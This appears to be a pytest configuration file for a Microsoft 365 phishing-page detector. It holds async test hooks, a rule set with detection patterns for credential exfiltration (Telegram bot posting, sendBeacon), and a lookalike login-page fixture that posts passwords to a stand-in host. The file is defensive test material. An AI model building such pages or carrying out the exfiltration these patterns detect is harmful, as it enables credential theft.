"""Global pytest configuration and shared fixtures."""

from __future__ import annotations

import asyncio
import copy
import inspect
import os
from collections.abc import AsyncGenerator

import pytest

from m365guard.analyzer.rule_store import parse_rule_document
from m365guard.analyzer.snapshot import PageSnapshot

# Keep a developer's .env from pointing tests at live rule or report servers.
os.environ.setdefault("ENABLE_CIPP_REPORTING", "false")


@pytest.fixture(scope="session")
def event_loop() -> AsyncGenerator[asyncio.AbstractEventLoop, None]:
    """Provide a shared event loop for async tests and fixtures."""

    loop = asyncio.new_event_loop()
    asyncio.set_event_loop(loop)
    try:
        yield loop
    finally:
        loop.close()


def _get_loop(request: pytest.FixtureRequest) -> asyncio.AbstractEventLoop:
    try:
        loop = request.getfixturevalue("event_loop")
    except pytest.FixtureLookupError:
        loop = asyncio.new_event_loop()
    if loop.is_closed():
        loop = asyncio.new_event_loop()
    asyncio.set_event_loop(loop)
    return loop


@pytest.hookimpl(tryfirst=True)
def pytest_pyfunc_call(pyfuncitem):  # type: ignore[override]
    if inspect.iscoroutinefunction(pyfuncitem.obj):
        testargs = {
            name: pyfuncitem.funcargs[name] for name in pyfuncitem._fixtureinfo.argnames
        }
        loop = testargs.get("event_loop") or asyncio.new_event_loop()
        asyncio.set_event_loop(loop)
        loop.run_until_complete(pyfuncitem.obj(**testargs))
        return True
    return None


@pytest.hookimpl(tryfirst=True)
def pytest_fixture_setup(fixturedef, request):  # type: ignore[override]
    func = fixturedef.func
    if inspect.iscoroutinefunction(func):
        loop = _get_loop(request)
        kwargs = {arg: request.getfixturevalue(arg) for arg in fixturedef.argnames}
        return loop.run_until_complete(func(**kwargs))

    if inspect.isasyncgenfunction(func):
        loop = _get_loop(request)
        kwargs = {arg: request.getfixturevalue(arg) for arg in fixturedef.argnames}
        agen = func(**kwargs)
        value = loop.run_until_complete(agen.__anext__())

        def finalize() -> None:
            try:
                loop.run_until_complete(agen.__anext__())
            except StopAsyncIteration:
                pass

        request.addfinalizer(finalize)
        return value

    return None


def pytest_configure(config: pytest.Config) -> None:
    config.addinivalue_line("markers", "asyncio: mark test as requiring asyncio support")


RULES = {
    "version": "test-1",
    "trusted_login_patterns": [
        "^https://login\\.microsoftonline\\.com$",
        "^https://login\\.microsoft\\.com$",
    ],
    "microsoft_domain_patterns": [
        "^https://[^/]*\\.microsoft\\.com$",
        "^https://[^/]*\\.office\\.com$",
    ],
    "m365_detection_requirements": {
        "primary_elements": [
            {"id": "idPartnerPL", "type": "source_content", "patterns": ["idPartnerPL"], "weight": 3},
            {"id": "loginfmt", "type": "source_content", "patterns": ["loginfmt"], "weight": 2},
            {"id": "aadcdn", "type": "source_content", "patterns": ["aadcdn\\.msauth\\.net"], "weight": 3},
        ],
        "secondary_elements": [
            {"id": "i0116", "type": "source_content", "patterns": ["i0116"], "weight": 1},
            {"id": "signin_text", "type": "source_content", "patterns": ["Sign in to your account"], "weight": 1},
            {"id": "segoe_font", "type": "css_pattern", "patterns": ["Segoe UI"], "weight": 1},
            {"id": "ms_blue", "type": "css_pattern", "patterns": ["#0067b8"], "weight": 1},
            {"id": "lightbox", "type": "css_pattern", "patterns": ["lightbox-cover"], "weight": 1},
            {"id": "terms_footer", "type": "source_content", "patterns": ["Terms of use"], "weight": 1},
        ],
        "detection_thresholds": {
            "minimum_primary_elements": 1,
            "minimum_total_weight": 4,
            "minimum_elements_overall": 3,
            "minimum_secondary_only_weight": 6,
            "minimum_secondary_only_elements": 5,
        },
    },
    "blocking_rules": [
        {
            "id": "form_action_validation",
            "type": "form_action_validation",
            "description": "Forms must post to Microsoft",
            "condition": {"form_selector": "form", "action_must_contain": "login.microsoftonline.com"},
            "severity": "critical",
        },
        {
            "id": "customcss_origin",
            "type": "resource_validation",
            "description": "Custom CSS must come from the Microsoft CDN",
            "condition": {
                "resource_pattern": "customcss",
                "required_origin": "https://aadcdn.msftauthimages.net/",
            },
            "severity": "critical",
        },
    ],
    "phishing_indicators": [
        {
            "id": "phi_telegram",
            "pattern": "api\\.telegram\\.org/bot",
            "category": "credential_harvesting",
            "severity": "critical",
            "confidence": 0.9,
            "action": "block",
            "description": "Credentials posted to a Telegram bot",
        },
        {
            "id": "phi_urgent",
            "pattern": "verify your account (immediately|now)",
            "category": "social_engineering",
            "severity": "medium",
            "confidence": 1.0,
            "action": "warn",
            "description": "Urgent verification wording",
        },
        {
            "id": "phi_brand",
            "pattern": "Microsoft Corporation",
            "category": "brand_impersonation",
            "severity": "low",
            "confidence": 0.4,
            "action": "warn",
            "description": "Microsoft branding text",
        },
        {
            "id": "phi_beacon",
            "pattern": "sendBeacon\\(",
            "category": "credential_harvesting",
            "severity": "high",
            "confidence": 0.8,
            "action": "warn",
            "description": "Beacon exfiltration",
            "context_required": ["password"],
        },
    ],
    "exclusion_system": {
        "domain_patterns": ["^https://([^/]*\\.)?github\\.com$"],
        "context_indicators": {
            "legitimate_contexts": ["security awareness"],
            "suspicious_contexts": ["enter your password"],
            "legitimate_sso_patterns": ["saml2?/"],
            "sso_exempt_indicators": ["phi_brand"],
        },
        "major_platform_domains": ["google.com", "youtube.com"],
    },
    "rules": [
        {
            "id": "url_ms",
            "type": "url",
            "description": "Microsoft login host",
            "condition": {"domains": ["login.microsoftonline.com"]},
            "weight": 40,
        },
        {
            "id": "form_ms",
            "type": "form_action",
            "description": "Form posts to Microsoft",
            "condition": {"contains": "login.microsoftonline.com"},
            "weight": 40,
        },
        {
            "id": "dom_inputs",
            "type": "dom",
            "description": "Microsoft login input",
            "condition": {"selectors": ["input[name=\"loginfmt\"]"]},
            "weight": 20,
        },
        {
            "id": "content_ms",
            "type": "content",
            "description": "Microsoft page variables",
            "condition": {"contains": ["urlMsaSignUp"]},
            "weight": 20,
        },
        {
            "id": "network_ms",
            "type": "network",
            "description": "Auth scripts from the Microsoft CDN",
            "condition": {"network_pattern": "msauth", "required_domain": "https://aadcdn.msauth.net/"},
            "weight": 10,
        },
        {
            "id": "referrer_ms",
            "type": "referrer_validation",
            "description": "Referred by Microsoft",
            "condition": {},
            "weight": 5,
        },
        {
            "id": "csp_ms",
            "type": "csp_validation",
            "description": "CSP allows Microsoft CDNs",
            "condition": {"required_domains": ["*.msauth.net", "*.microsoftonline.com"]},
            "weight": 5,
        },
    ],
    "thresholds": {"legitimate": 85},
}


# Recognized lookalike: 2 primary elements (weight 5) and 3 secondary
# elements (weight 3), posting credentials to its own host.
LOOKALIKE_HTML = """
<html>
<head>
  <title>Sign in</title>
  <style>body { font-family: "Segoe UI", sans-serif; }</style>
</head>
<body>
  <h1>Sign in to your account</h1>
  <form action="https://evil-lookalike.example/submit" method="post">
    <input type="hidden" name="idPartnerPL" value="">
    <input type="email" name="loginfmt" id="i0116">
    <input type="password" name="passwd">
  </form>
</body>
</html>
"""

# Recognized page that posts to Microsoft and loads Microsoft scripts, with
# one medium-severity lure: legitimacy 90, phishing 10.
PROXY_HTML = """
<html>
<head>
  <style>body { font-family: "Segoe UI"; }</style>
  <script src="https://aadcdn.msauth.net/shared/1.0/content/js/ConvergedLogin.js"></script>
</head>
<body>
  <div data-field="idPartnerPL"></div>
  <p>Sign in to your account</p>
  <p>Please verify your account immediately to keep access.</p>
  <form action="https://login.microsoftonline.com/common/login" method="post">
    <input type="email" name="loginfmt" id="i0116">
  </form>
  <script>var urlMsaSignUp = "https://signup.live.com";</script>
</body>
</html>
"""

PLAIN_HTML = """
<html><head><title>Garden notes</title></head>
<body><h1>Tomatoes in October</h1><p>Pick them before the first frost.</p></body></html>
"""


@pytest.fixture
def rules_data() -> dict:
    return copy.deepcopy(RULES)


@pytest.fixture
def rule_document(rules_data):
    return parse_rule_document(rules_data)


@pytest.fixture
def make_snapshot():
    def _make(url: str = "https://example.test/", html: str = PLAIN_HTML, **kwargs) -> PageSnapshot:
        return PageSnapshot(url, html, **kwargs)

    return _make
